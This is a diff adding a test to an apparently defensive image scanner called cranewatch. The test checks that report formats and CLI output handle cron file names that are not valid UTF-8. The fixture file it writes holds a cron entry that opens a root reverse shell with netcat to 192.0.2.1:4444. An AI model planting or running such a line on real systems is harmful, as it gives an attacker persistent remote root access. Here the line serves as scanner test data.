@@ -92,3 +92,19 @@ def test_module_entry_point_runs_without_traceback(tmp_path: Path) -> None:
     run = subprocess.run([sys.executable, "-m", "cranewatch", "scan-image", str(empty)], capture_output=True, text=True, check=False)
     assert run.returncode == 3
     assert "Traceback" not in run.stderr and "empty (0 bytes)" in run.stderr
+
+
+def test_undecodable_file_names_do_not_break_any_format(tmp_path: Path) -> None:
+    tree = tmp_path / "root"
+    tree.mkdir()
+    build_tree(tree)
+    (tree / "etc/cron.d").mkdir()
+    odd = bytes(tree / "etc/cron.d") + b"/job-\xff\xfe"
+    with open(odd, "w") as fh:
+        fh.write("* * * * * root nc -e /bin/sh 192.0.2.1 4444\n")
+    for fmt in ("text", "jsonl", "html"):
+        out = tmp_path / f"r.{fmt}"
+        assert main(["scan-image", str(tree), "--format", fmt, "--out", str(out)]) == 0
+        assert "job-" in out.read_text()
+    run = subprocess.run([sys.executable, "-m", "cranewatch", "scan-image", str(tree)], capture_output=True, check=False)
+    assert run.returncode == 0 and b"job-\\udcff" in run.stdout
